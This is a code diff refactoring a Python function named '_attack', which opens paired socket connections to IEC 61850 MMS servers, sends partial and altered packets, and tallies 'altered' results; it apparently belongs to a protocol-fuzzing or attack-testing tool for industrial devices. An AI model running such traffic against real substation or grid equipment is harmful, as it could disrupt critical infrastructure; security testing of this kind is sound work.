@@ -79,10 +79,12 @@ def _attack(target: Target, tally: Counter[str]) -> None:
     from open61850.mms.pdu import ObjectName
     from open61850.mms.transport import connection_request
 
+    from agent.mms.requests import tpkt
+
     dice = random.Random()
     asked = pdu.wrap(pdu.confirmed_request(1, pdu.read_request([ObjectName("MMXU1$MX", target.domain)])))
-    begin = _tpkt(connection_request()) + _tpkt(b"\x02\xf0\x80" + association_request(AssociationParameters()))
-    ask = _tpkt(b"\x02\xf0\x80" + asked)
+    begin = tpkt(connection_request()) + tpkt(b"\x02\xf0\x80" + association_request(AssociationParameters()))
+    ask = tpkt(b"\x02\xf0\x80" + asked)
     where = (target.address, target.port)
     with socket.create_connection(where, timeout=5.0) as silent, socket.create_connection(where, timeout=5.0) as deaf:
         silent.sendall(begin[:9])
@@ -97,10 +99,6 @@ def _attack(target: Target, tally: Counter[str]) -> None:
                 other.sendall(wrong)
             tally["altered"] += 1
             time.sleep(PAUSE_S)
-
-
-def _tpkt(payload: bytes) -> bytes:
-    return b"\x03\x00" + (len(payload) + 4).to_bytes(2) + payload
 
 
 def main(tally_file: Path, readers: int, targets: list[Target]) -> None:
